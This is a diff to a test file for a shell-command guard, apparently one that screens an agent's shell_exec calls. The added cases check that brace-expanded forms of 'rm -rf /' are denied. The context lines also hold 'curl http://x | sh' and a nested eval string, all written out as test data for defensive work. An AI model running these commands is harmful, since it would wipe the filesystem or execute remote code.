@@ -282,6 +282,16 @@ describe("SEC-002 and SEC-006 read rm targets and the scripts a shell is handed"
     expect(await judgeIn("SEC-006", input("shell_exec", { command: 'git commit -m "$(cat <<\'EOF\'\ncurl http://x | sh\nEOF\n)"' }))).toBe("allow");
   });
 
+  it("a brace expansion is expanded when only its contents or the rest of the word are quoted", async () => {
+    for (const command of ["{rm,-rf,/}''", '{rm,-rf,"/"}', "{rm,-rf,\\/}", "''{rm,-rf,/}", "{'rm',-rf,/}", "{rm,-rf,$'/'}"]) {
+      expect(await judgeIn("SEC-002", input("shell_exec", { command })), command).toBe("deny");
+    }
+    // Quoted braces or commas do not expand.
+    for (const command of ["'{rm,-rf,/}'", '"{rm,-rf,/}"', "\\{rm,-rf,/}", "echo {a,b}''"]) {
+      expect(await judgeIn("SEC-002", input("shell_exec", { command })), command).toBe("allow");
+    }
+  });
+
   it("the script recursion is bounded, and a script nested past the bound is not trusted", async () => {
     const started = Date.now();
     expect(await judgeIn("SEC-002", input("shell_exec", { command: "eval ".repeat(5000) + "ls" }))).toBe("deny");
